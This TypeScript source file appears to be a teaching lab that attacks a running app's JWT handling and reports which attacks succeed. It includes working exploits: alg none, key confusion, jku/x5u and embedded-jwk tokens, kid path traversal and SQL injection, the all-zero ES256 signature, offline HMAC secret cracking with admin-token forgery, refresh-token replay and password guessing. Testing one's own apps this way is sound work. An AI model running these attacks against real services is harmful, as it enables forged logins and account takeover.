// The attack lab: obtain one valid token from a running app, then try the
// classic JWT attacks on it and report which ones the app let through; and,
// where the app keeps a refresh token in a cookie, the attacks on that.
import {
  createHmac,
  createPublicKey,
  generateKeyPairSync,
  randomUUID,
  timingSafeEqual,
  type JsonWebKey,
  type KeyObject,
} from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { b64, es256Token, hmacToken, now, peek, unsigned, withPayload } from '../forge.ts';
import { basic, loginToken, tokenTransport } from '../token.ts';
import { LOCKOUT_ROW, lockoutFlood } from './lockout.ts';

export interface Target {
  /** Base URL of the service with the protected path. */
  apiUrl: string;
  /** The path that needs a token: /protected unless said (step 10's API: /messages). */
  protectedPath?: string;
  /** Base URL of the service with /login (the API's by default). */
  loginUrl?: string;
  user?: string;
  password?: string;
  /** A valid token to start from, instead of logging in (step 10: one its keys.ts mints). */
  token?: string;
  /**
   * The signing secret, when the lab started the app and chose it: lets the
   * lab sign tokens that break one claim rule at a time, as an insider could.
   */
  secret?: string;
  /** Or the ES256 signing key and its kid, for an app that signs with a key pair. */
  signer?: { kid: string; privateKey: KeyObject };
  /** How many times the API has fetched the JWKS so far, when the lab can see its fetches. */
  jwksFetches?: () => number;
  /**
   * Withdraw a key at the login service (npm run rotate-key -- --revoke), and
   * resolve once the API must have noticed: one JWKS max-age later.
   */
  withdraw?: (kid: string) => Promise<void>;
  /**
   * Seconds a spent refresh token still gets its successor (a second tab):
   * the lab replays one after that. 10, step 09's default, unless said.
   */
  refreshGraceSeconds?: number;
  /** Where the refresh cookie's routes are, and what the app's own page sends them. */
  refresh?: { path: string; logoutPath: string; headers: Record<string, string> };
}

/** Step 09's routes and the header its page sends: the lab acts as that page. */
export const REFRESH_ROUTES = {
  path: '/auth/refresh',
  logoutPath: '/auth/logout',
  headers: { 'X-Requested-With': 'fetch' },
};

export type Verdict = 'held' | 'VULNERABLE' | 'CRASH' | 'n/a';

export interface Outcome {
  attack: string;
  tries: string;
  expected: string;
  got: string;
  verdict: Verdict;
}

export interface Report {
  outcomes: Outcome[];
  /** The secret found by the offline guess, if any. */
  cracked?: string;
  transport: 'header' | 'query';
  succeeded: number;
}

interface Sent {
  status: number;
  body: string;
}

const protectedUrl = (target: Target) => `${target.apiUrl}${target.protectedPath ?? '/protected'}`;

/** Where a token goes: the Authorization header, or ?token= as in the talk. */
async function send(
  target: Target,
  transport: 'header' | 'query',
  token: string,
  extraQuery = '',
): Promise<Sent> {
  const url =
    transport === 'query'
      ? `${protectedUrl(target)}?token=${encodeURIComponent(token)}${extraQuery}`
      : `${protectedUrl(target)}${extraQuery ? `?${extraQuery.slice(1)}` : ''}`;
  const headers: Record<string, string> =
    transport === 'header' ? { Authorization: `Bearer ${token}` } : {};
  try {
    const res = await fetch(url, { headers, signal: AbortSignal.timeout(30_000) });
    return { status: res.status, body: await res.text() };
  } catch (err) {
    return { status: 0, body: (err as Error).message };
  }
}

/**
 * The first of these paths that refuses a request without a token and
 * answers the valid token with 200: the lab's protected path, when an app
 * has no /protected (step 10's API: /messages).
 */
export async function findProtectedPath(
  apiUrl: string,
  token: string,
  candidates: string[],
): Promise<string | undefined> {
  for (const path of candidates) {
    const status = (headers: Record<string, string>) =>
      fetch(`${apiUrl}${path}`, { headers, signal: AbortSignal.timeout(30_000) }).then(
        (res) => res.status,
        () => 0,
      );
    const without = await status({});
    if (without !== 401 && without !== 403) continue;
    if (
      (await status({ Authorization: `Bearer ${token}` })) === 200 ||
      (await tokenTransport(`${apiUrl}${path}`, token)) !== undefined
    )
      return path;
  }
  return undefined;
}

export function loadSecrets(): string[] {
  return readFileSync(new URL('./secrets.txt', import.meta.url), 'utf8')
    .split(/\r?\n/)
    .filter((line) => line && !line.startsWith('#'));
}

/** The offline guess: try each known secret against the token's own HMAC. */
export function crack(token: string, candidates: string[]): string | undefined {
  const [h, p, s] = token.split('.');
  const alg = String(peek(token).header?.alg);
  const hash = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' }[alg];
  if (!hash || !s) return undefined;
  const signature = Buffer.from(s, 'base64url');
  return candidates.find((secret) => {
    const guess = createHmac(hash, secret).update(`${h}.${p}`).digest();
    return guess.length === signature.length && timingSafeEqual(guess, signature);
  });
}

/** A little server standing for the attacker's site: serves a JWKS, and notes who fetched it. */
async function attackerSite(
  jwks: object,
): Promise<{ url: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(req.url ?? '/');
    res.setHeader('Content-Type', 'application/json');
    res.end(JSON.stringify(jwks));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    hits,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

interface Attack {
  name: string;
  tries: string;
  /** Needs a signing key (cracked, or given): n/a without one. */
  needsKey?: boolean;
  /** Needs an HMAC secret in particular. */
  needsSecret?: boolean;
  /** The token to send, or a whole request of its own. */
  run(kit: Kit): Promise<Sent> | Sent | string;
}

interface Kit {
  token: string;
  header: Record<string, unknown>;
  payload: Record<string, unknown>;
  /** Claims like the valid token's, with fresh times. */
  claims(overrides?: Record<string, unknown>): Record<string, unknown>;
  /** A key the lab can sign with (cracked, given, or the app's own key pair). */
  key?: string | { kid: string; privateKey: KeyObject };
  /** Sign as the app would (HS256 with the secret, or ES256 with the key pair, typ as the valid token's), header fields overridden. */
  signed(payload: unknown, header?: Record<string, unknown>): string;
  attacker: {
    privateKey: KeyObject;
    jwk: Record<string, unknown>;
    publicPem: string;
    site: string;
    hits: string[];
  };
  serverPublicPem?: string;
  send(token: string, extraQuery?: string): Promise<Sent>;
  sendRaw(headers: Record<string, string>, query?: string): Promise<Sent>;
}

function userClaim(payload: Record<string, unknown>): string {
  return 'sub' in payload ? 'sub' : 'user';
}

const ATTACKS: Attack[] = [
  ...['none', 'None', 'NONE', 'nOnE'].map<Attack>((alg) => ({
    name: `alg ${alg}`,
    tries: `"alg": "${alg}" and no signature`,
    run: (k) => unsigned(k.claims(), alg),
  })),
  {
    name: 'signature stripped',
    tries: 'the real header, no signature',
    run: (k) => `${k.token.split('.').slice(0, 2).join('.')}.`,
  },
  {
    name: 'signature truncated',
    tries: 'the last 6 characters of the signature cut',
    run: (k) => k.token.slice(0, -6),
  },
  {
    name: 'tampered payload',
    tries: 'user changed to admin, old signature kept',
    run: (k) => withPayload(k.token, { ...k.payload, [userClaim(k.payload)]: 'admin' }),
  },
  {
    name: 'RS256 to HS256 confusion',
    tries: 'HS256 keyed with a public key, as if it were the secret',
    run: (k) =>
      hmacToken(
        { ...k.header, alg: 'HS256' },
        k.claims(),
        k.serverPublicPem ?? k.attacker.publicPem,
      ),
  },
  {
    name: 'embedded jwk',
    tries: "signed with the attacker's key, which rides in the header",
    run: (k) =>
      es256Token(
        { alg: 'ES256', typ: 'JWT', jwk: k.attacker.jwk },
        k.claims(),
        k.attacker.privateKey,
      ),
  },
  {
    name: 'jku header',
    tries: "keys to be fetched from the attacker's URL",
    run: (k) =>
      es256Token(
        { alg: 'ES256', typ: 'JWT', kid: 'attacker', jku: `${k.attacker.site}/jwks.json` },
        k.claims(),
        k.attacker.privateKey,
      ),
  },
  {
    name: 'x5u header',
    tries: "a certificate to be fetched from the attacker's URL",
    run: (k) =>
      es256Token(
        { alg: 'ES256', typ: 'JWT', x5u: `${k.attacker.site}/cert.pem` },
        k.claims(),
        k.attacker.privateKey,
      ),
  },
  {
    name: 'kid path traversal',
    tries: 'kid ../../../../dev/null and an empty HMAC key',
    run: (k) =>
      hmacToken({ alg: 'HS256', typ: 'JWT', kid: '../../../../../../dev/null' }, k.claims(), ''),
  },
  {
    name: 'kid injection',
    tries: 'kid with SQL that selects the key "attacker"',
    run: (k) =>
      hmacToken(
        { alg: 'HS256', typ: 'JWT', kid: "x' UNION SELECT 'attacker' -- " },
        k.claims(),
        'attacker',
      ),
  },
  {
    name: 'ES256 all-zero signature',
    tries: 'r = s = 0, the "psychic signature" (CVE-2022-21449)',
    run: (k) =>
      `${b64({ alg: 'ES256', typ: 'JWT' })}.${b64(k.claims())}.${Buffer.alloc(64).toString('base64url')}`,
  },
  {
    name: 'header not JSON',
    tries: 'a header that does not parse',
    run: (k) => `${b64('{"alg":')}.${k.token.split('.')[1]}.${k.token.split('.')[2]}`,
  },
  {
    name: 'payload not JSON',
    tries: 'a payload that does not parse, old signature',
    run: (k) => withPayload(k.token, '{"sub":'),
  },
  { name: 'empty token', tries: 'an empty string', run: (k) => k.send('') },
  {
    name: 'oversized token (8 KB)',
    tries: 'the token padded to 8 KB',
    run: (k) => k.token + 'A'.repeat(8 * 1024),
  },
  { name: 'oversized token (64 KB)', tries: 'a 64 KB token', run: (k) => 'A'.repeat(64 * 1024) },
  {
    name: 'token twice',
    tries: 'two copies of the valid token at once',
    run: (k) => k.send(k.token, `&token=${k.token}`),
  },
  {
    name: 'token in the URL',
    tries: 'the valid token as ?access_token= (leaks to logs, RFC 6750 section 5.3)',
    run: (k) => k.sendRaw({}, `?access_token=${k.token}&token=${k.token}`),
  },
  {
    name: 'HS384, same key',
    tries: 'the right key with another algorithm',
    needsSecret: true,
    run: (k) => k.signed(k.claims(), { alg: 'HS384' }),
  },
  {
    name: 'HS512, same key',
    tries: 'the right key with another algorithm',
    needsSecret: true,
    run: (k) => k.signed(k.claims(), { alg: 'HS512' }),
  },
  {
    name: 'expired',
    tries: 'exp an hour ago',
    needsKey: true,
    run: (k) => k.signed(k.claims({ iat: now() - 3700, exp: now() - 3600 })),
  },
  {
    name: 'not yet valid',
    tries: 'nbf an hour from now',
    needsKey: true,
    run: (k) => k.signed(k.claims({ nbf: now() + 3600 })),
  },
  {
    name: 'issued in the future',
    tries: 'iat an hour from now',
    needsKey: true,
    run: (k) => k.signed(k.claims({ iat: now() + 3600, exp: now() + 3640 })),
  },
  {
    name: 'missing exp',
    tries: 'no exp: a token that never expires',
    needsKey: true,
    run: (k) => k.signed(k.claims({ exp: undefined })),
  },
  {
    name: 'exp 1e999',
    tries: 'exp parses to Infinity',
    needsKey: true,
    run: (k) => k.signed(JSON.stringify(k.claims({ exp: 0 })).replace('"exp":0', '"exp":1e999')),
  },
  {
    name: 'ten-year lifetime',
    tries: 'exp ten years away',
    needsKey: true,
    run: (k) => k.signed(k.claims({ exp: now() + 10 * 365 * 86400 })),
  },
  {
    name: 'wrong issuer',
    tries: 'iss of another service',
    needsKey: true,
    run: (k) => k.signed(k.claims({ iss: 'https://evil.example' })),
  },
  {
    name: 'wrong audience',
    tries: 'aud of another API',
    needsKey: true,
    run: (k) => k.signed(k.claims({ aud: 'https://other-api.example' })),
  },
  {
    name: 'payload a JSON string',
    tries: 'claims that are "admin", not an object',
    needsKey: true,
    run: (k) => k.signed('"admin"'),
  },
  {
    name: 'payload an array',
    tries: 'claims that are [], not an object',
    needsKey: true,
    run: (k) => k.signed([]),
  },
  {
    name: 'payload not JSON, signed',
    tries: 'a correctly signed payload that does not parse',
    needsKey: true,
    run: (k) => k.signed('{"sub":'),
  },
  {
    name: 'unknown kid',
    tries: 'a kid the server never issued',
    needsKey: true,
    run: (k) => k.signed(k.claims(), { kid: 'other-key' }),
  },
];

/** How many wrong passwords in a row a login may take before it answers 429. */
const GUESSES = 10;

/** The attacks beside ATTACKS and the refresh cookie's, each one row of the report. */
const ROWS = {
  kidFlood: {
    attack: 'made-up kid flood',
    tries: '50 tokens at once, each with a new kid',
    expected: '≤ 1 fetch',
  },
  guessing: {
    attack: 'password guessing',
    tries: `up to ${GUESSES} wrong passwords in a row at one account`,
    expected: `429 by ${GUESSES}`,
  },
  withdrawn: {
    attack: 'withdrawn key',
    tries: 'signed with a key withdrawn one JWKS max-age ago',
    expected: 'refused',
  },
  offline: {
    attack: 'offline secret guess',
    tries: `HMAC of one token against ${loadSecrets().length} published secrets`,
    expected: 'not found',
  },
  forged: {
    attack: 'forged with the cracked secret',
    tries: 'user admin, a year of life',
    expected: 'refused',
  },
};

/** Wrong passwords at one made-up account: a throttled login answers 429 within a few. */
async function guessPasswords(loginUrl: string): Promise<Outcome> {
  const row = ROWS.guessing;
  // A made-up account: the lab must not lock the real user out of this address.
  const user = `attack-lab-${randomUUID().slice(0, 8)}`;
  for (let i = 1; i <= GUESSES; i++) {
    let res: Response;
    try {
      res = await fetch(`${loginUrl}/login`, {
        headers: basic(user, `guess-${i}`),
        signal: AbortSignal.timeout(30_000),
      });
      await res.arrayBuffer();
    } catch (err) {
      return {
        ...row,
        got: `no answer (${(err as Error).message.slice(0, 30)})`,
        verdict: 'CRASH',
      };
    }
    if (res.status >= 500) return { ...row, got: String(res.status), verdict: 'CRASH' };
    if (res.status >= 200 && res.status < 300)
      return { ...row, got: `${res.status}: any password logs in`, verdict: 'VULNERABLE' };
    if (res.status === 429) {
      const retry = res.headers.get('Retry-After');
      return {
        ...row,
        got: `429 at guess ${i}${retry ? `, Retry-After ${retry}` : ', no Retry-After'}`,
        verdict: retry ? 'held' : 'VULNERABLE',
      };
    }
    if (i === 1 && res.status !== 401)
      return { ...row, got: `${res.status}: no password login`, verdict: 'n/a' };
  }
  return { ...row, got: `${GUESSES} x 401, no 429`, verdict: 'VULNERABLE' };
}

/** 50 tokens at once, each with a kid nobody issued: an API that fetches its keys must fetch once at most. */
async function kidFlood(kit: Kit, target: Target): Promise<Outcome> {
  const row = ROWS.kidFlood;
  if (!target.jwksFetches) return { ...row, got: 'JWKS fetches not seen', verdict: 'n/a' };
  if (typeof kit.header.kid !== 'string')
    return { ...row, got: 'tokens carry no kid', verdict: 'n/a' };
  const before = target.jwksFetches();
  const answers = await Promise.all(
    Array.from({ length: 50 }, () =>
      kit.send(
        es256Token(
          { alg: 'ES256', typ: 'JWT', kid: randomUUID() },
          kit.claims(),
          kit.attacker.privateKey,
        ),
      ),
    ),
  );
  const fetches = target.jwksFetches() - before;
  const worst =
    answers.find((a) => a.status === 0 || a.status >= 500) ??
    answers.find((a) => a.status >= 200 && a.status < 300);
  if (worst) return { ...row, ...judge(worst) };
  return {
    ...row,
    got: `${fetches} JWKS fetch${fetches === 1 ? '' : 'es'}`,
    verdict: fetches <= 1 ? 'held' : 'VULNERABLE',
  };
}

/** A fresh token signed with a key the login service has withdrawn (it leaked): the API must refuse it. */
async function withdrawnKey(kit: Kit, target: Target): Promise<Outcome> {
  const row = ROWS.withdrawn;
  if (!target.withdraw || typeof kit.key !== 'object')
    return { ...row, got: 'cannot withdraw a key', verdict: 'n/a' };
  const { kid, privateKey } = kit.key;
  await target.withdraw(kid);
  return {
    ...row,
    ...judge(
      await kit.send(es256Token({ alg: 'ES256', typ: 'JWT', kid }, kit.claims(), privateKey)),
    ),
  };
}

// The refresh token in a cookie (step 09): the lab logs in as the page
// would, keeps the cookie /login sets, and attacks the routes that take it.

interface Cookie {
  name: string;
  value: string;
}

interface Answered extends Sent {
  /** The value the answer sets for the cookie, if it sets one. */
  cookie?: string;
}

/** A login of the lab's own, with the HttpOnly cookie it sets: a refresh session. */
async function refreshSession(
  target: Target,
): Promise<{ token: string; cookie: Cookie } | undefined> {
  try {
    const res = await fetch(`${target.loginUrl ?? target.apiUrl}/login`, {
      headers: basic(target.user ?? 'alice', target.password ?? 'pyconid'),
      signal: AbortSignal.timeout(30_000),
    });
    const body = (await res.json().catch(() => ({}))) as { token?: unknown };
    // The refresh cookie: HttpOnly, and sent to the refresh route (a device
    // cookie for /login is another one).
    const refreshPath = (target.refresh ?? REFRESH_ROUTES).path;
    const line = res.headers.getSetCookie().find((c) => {
      const path = /;\s*path=([^;]*)/i.exec(c)?.[1]?.trim() ?? '/';
      return /;\s*httponly/i.test(c) && refreshPath.startsWith(path);
    });
    if (res.status !== 200 || typeof body.token !== 'string' || !line) return undefined;
    const pair = line.split(';')[0]!;
    return {
      token: body.token,
      cookie: {
        name: pair.slice(0, pair.indexOf('=')).trim(),
        value: pair.slice(pair.indexOf('=') + 1).trim(),
      },
    };
  } catch {
    return undefined;
  }
}

/** POST with the cookie, as a browser would send it. */
async function postCookie(
  url: string,
  cookie: Cookie,
  headers: Record<string, string>,
): Promise<Answered> {
  try {
    const res = await fetch(url, {
      method: 'POST',
      headers: { ...headers, Cookie: `${cookie.name}=${cookie.value}` },
      signal: AbortSignal.timeout(30_000),
    });
    const set = res.headers.getSetCookie().find((c) => c.startsWith(`${cookie.name}=`));
    return {
      status: res.status,
      body: await res.text(),
      cookie: set?.split(';')[0]!.slice(cookie.name.length + 1),
    };
  } catch (err) {
    return { status: 0, body: (err as Error).message };
  }
}

const REFRESH_ROWS = [
  {
    attack: 'refresh token replay',
    tries: 'a spent refresh token again, after the grace window',
    expected: 'family revoked',
  },
  {
    attack: 'refresh without CSRF header',
    tries: 'the refresh cookie alone, as a form on another site sends it',
    expected: 'refused',
  },
  {
    attack: 'refresh from another Origin',
    tries: 'the cookie and the header, Origin: http://evil.example',
    expected: 'refused',
  },
  {
    attack: 'access token after logout',
    tries: 'the access token of a session just logged out',
    expected: 'refused',
  },
  {
    attack: 'refresh token as Bearer',
    tries: 'the refresh token sent as an access token',
    expected: 'refused',
  },
];

export const attackCount =
  ATTACKS.length + Object.keys(ROWS).length + REFRESH_ROWS.length + [LOCKOUT_ROW].length;

/** Only the attacks on the refresh cookie: for an app known to have one. */
export async function attackRefreshCookie(target: Target): Promise<Outcome[]> {
  const session = await refreshSession(target);
  const transport = session && (await tokenTransport(protectedUrl(target), session.token));
  if (!session || !transport)
    throw new Error(
      `No login with a token that opens ${protectedUrl(target)}: is this the right URL?`,
    );
  return refreshAttacks((token) => send(target, transport, token), target);
}

async function refreshAttacks(sendToken: Kit['send'], target: Target): Promise<Outcome[]> {
  const routes = target.refresh ?? REFRESH_ROUTES;
  const base = target.loginUrl ?? target.apiUrl;
  const notApplicable = (why: string) =>
    REFRESH_ROWS.map((row): Outcome => ({ ...row, got: why, verdict: 'n/a' }));
  const session = async () => {
    const s = await refreshSession(target);
    if (!s) throw new Error('the login set no refresh cookie this time');
    return s;
  };
  // Control: the app's own page can refresh, or there is nothing to attack.
  const probe = await refreshSession(target);
  if (!probe) return notApplicable('no HttpOnly cookie from /login');
  const refresh = (cookie: Cookie, headers = routes.headers) =>
    postCookie(`${base}${routes.path}`, cookie, headers);
  const first = await refresh(probe.cookie);
  if (first.status !== 200 || !first.cookie)
    return notApplicable(`no refresh at ${routes.path} (${first.status})`);

  const outcomes: Outcome[] = [];
  const row = (i: number, got: string, verdict: Verdict) =>
    outcomes.push({ ...REFRESH_ROWS[i]!, got, verdict });
  try {
    // The spent cookie again, once the grace window is over: refused, and its successor too.
    // Times are whole seconds: a second more, and the window is surely over.
    const grace = target.refreshGraceSeconds ?? 10;
    if (grace > 0) await new Promise((resolve) => setTimeout(resolve, (grace + 1) * 1000));
    const replay = await refresh(probe.cookie);
    const successor = await refresh({ ...probe.cookie, value: first.cookie });
    if (replay.status === 0 || replay.status >= 500) row(0, judge(replay).got, 'CRASH');
    else if (replay.status < 300) row(0, `${replay.status}: a spent token refreshes`, 'VULNERABLE');
    else if (successor.status < 300)
      row(0, `${replay.status}, but its successor still ${successor.status}`, 'VULNERABLE');
    else row(0, `${replay.status}, successor ${successor.status}`, 'held');

    // Cross-site: each on a session of its own.
    for (const [i, headers] of [
      [1, {}],
      [2, { ...routes.headers, Origin: 'http://evil.example' }],
    ] as const) {
      const { got, verdict } = judge(await refresh((await session()).cookie, headers));
      row(i, got, verdict);
    }

    const out = await session();
    const logout = await postCookie(`${base}${routes.logoutPath}`, out.cookie, {
      ...routes.headers,
      Authorization: `Bearer ${out.token}`,
    });
    if (logout.status === 200) {
      const { got, verdict } = judge(await sendToken(out.token));
      row(3, got, verdict);
    } else row(3, `no logout at ${routes.logoutPath} (${logout.status})`, 'n/a');

    const { got, verdict } = judge(await sendToken((await session()).cookie.value));
    row(4, got, verdict);
  } catch (err) {
    for (let i = outcomes.length; i < REFRESH_ROWS.length; i++)
      row(i, (err as Error).message.slice(0, 40), 'n/a');
  }
  return outcomes;
}

function judge(sent: Sent): { got: string; verdict: Verdict } {
  if (sent.status === 0) return { got: `no answer (${sent.body.slice(0, 40)})`, verdict: 'CRASH' };
  if (sent.status >= 500) return { got: String(sent.status), verdict: 'CRASH' };
  if (sent.status >= 200 && sent.status < 300)
    return { got: String(sent.status), verdict: 'VULNERABLE' };
  return { got: String(sent.status), verdict: 'held' };
}

export async function attack(target: Target): Promise<Report> {
  const token =
    target.token ??
    (await loginToken({
      loginUrl: target.loginUrl ?? target.apiUrl,
      user: target.user,
      password: target.password,
    }));
  const transport = await tokenTransport(protectedUrl(target), token);
  if (!transport)
    throw new Error(
      `The valid token opens ${target.protectedPath ?? '/protected'} neither as Authorization: Bearer nor as ?token=: is this the right URL (or path)?`,
    );
  const { header = {}, payload = {} } = peek(token);

  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = {
    ...(publicKey.export({ format: 'jwk' }) as Record<string, unknown>),
    kid: 'attacker',
    alg: 'ES256',
    use: 'sig',
  };
  const site = await attackerSite({ keys: [jwk] });

  // A key server (step 07 and later) publishes its public keys; the
  // confusion attack uses one as an HMAC secret.
  let serverPublicPem: string | undefined;
  try {
    const res = await fetch(`${target.loginUrl ?? target.apiUrl}/.well-known/jwks.json`);
    const { keys } = (await res.json()) as { keys?: JsonWebKey[] };
    if (keys?.[0])
      serverPublicPem = createPublicKey({ key: keys[0], format: 'jwk' })
        .export({ type: 'spki', format: 'pem' })
        .toString();
  } catch {
    // No JWKS: an HMAC app.
  }

  const cracked = crack(token, loadSecrets());
  let key: Kit['key'] = cracked ?? target.signer ?? target.secret;
  const lifetime =
    typeof payload.exp === 'number' && typeof payload.iat === 'number'
      ? payload.exp - payload.iat
      : 40;
  const kit: Kit = {
    token,
    header,
    payload,
    key,
    claims: (overrides = {}) => {
      const t = now();
      const claims: Record<string, unknown> = {
        ...payload,
        exp: t + lifetime,
        jti: randomUUID(),
        ...overrides,
      };
      if ('iat' in payload && !('iat' in overrides)) claims.iat = t;
      if (!('jti' in payload) && !('jti' in overrides)) delete claims.jti;
      return claims;
    },
    signed: (body, extra = {}) =>
      typeof kit.key === 'object'
        ? es256Token(
            { alg: 'ES256', typ: header.typ ?? 'JWT', kid: kit.key.kid, ...extra },
            body,
            kit.key.privateKey,
          )
        : hmacToken({ ...header, alg: 'HS256', ...extra }, body, kit.key ?? ''),
    attacker: {
      privateKey,
      jwk,
      publicPem: publicKey.export({ type: 'spki', format: 'pem' }).toString(),
      site: site.url,
      hits: site.hits,
    },
    serverPublicPem,
    send: (t, extra) => send(target, transport, t, extra),
    sendRaw: async (headers, query = '') => {
      try {
        const res = await fetch(`${protectedUrl(target)}${query}`, { headers });
        return { status: res.status, body: await res.text() };
      } catch (err) {
        return { status: 0, body: (err as Error).message };
      }
    },
  };

  // Control: a well-formed token signed with the key must pass, or a refusal
  // below would prove nothing about the rule it is meant to test.
  let noKey = 'no key known';
  if (key !== undefined && (await kit.send(kit.signed(kit.claims()))).status !== 200) {
    key = kit.key = undefined;
    noKey = 'key not accepted';
  }

  // First, while no made-up kid has been seen: the flood of them.
  const outcomes: Outcome[] = [await kidFlood(kit, target)];
  try {
    for (const a of ATTACKS) {
      if ((a.needsKey || a.needsSecret) && !key) {
        outcomes.push({
          attack: a.name,
          tries: a.tries,
          expected: 'refused',
          got: noKey,
          verdict: 'n/a',
        });
        continue;
      }
      if (a.needsSecret && typeof key !== 'string') {
        outcomes.push({
          attack: a.name,
          tries: a.tries,
          expected: 'refused',
          got: 'not an HMAC app',
          verdict: 'n/a',
        });
        continue;
      }
      const hitsBefore = site.hits.length;
      const made = await a.run(kit);
      const sent = typeof made === 'string' ? await kit.send(made) : made;
      const judged = judge(sent);
      if (site.hits.length > hitsBefore) {
        judged.verdict = 'VULNERABLE';
        judged.got += ", and the app fetched the attacker's URL";
      }
      outcomes.push({ attack: a.name, tries: a.tries, expected: 'refused', ...judged });
    }
  } finally {
    await site.close();
  }

  // The refresh cookie, the login, and the key's end. The withdrawn key goes
  // last: after it, the lab's key no longer signs anything the API accepts.
  outcomes.push(...(await refreshAttacks(kit.send, target)));
  outcomes.push(await lockoutFlood(target.loginUrl ?? target.apiUrl, target.user, target.password));
  outcomes.push(await guessPasswords(target.loginUrl ?? target.apiUrl));
  outcomes.push(
    key === undefined
      ? { ...ROWS.withdrawn, got: noKey, verdict: 'n/a' }
      : await withdrawnKey(kit, target),
  );

  // The offline guess, and what a cracked secret buys.
  outcomes.push({
    ...ROWS.offline,
    got: cracked === undefined ? 'not found' : `found "${cracked}"`,
    verdict: cracked === undefined ? 'held' : 'VULNERABLE',
  });
  if (cracked !== undefined) {
    const forged = hmacToken(
      { ...header, alg: header.alg ?? 'HS256' },
      kit.claims({ [userClaim(payload)]: 'admin', exp: now() + 365 * 86400 }),
      cracked,
    );
    const judged = judge(await kit.send(forged));
    outcomes.push({ ...ROWS.forged, ...judged });
  } else {
    outcomes.push({ ...ROWS.forged, got: 'no secret cracked', verdict: 'n/a' });
  }

  return {
    outcomes,
    cracked,
    transport,
    succeeded: outcomes.filter((o) => o.verdict === 'VULNERABLE' || o.verdict === 'CRASH').length,
  };
}
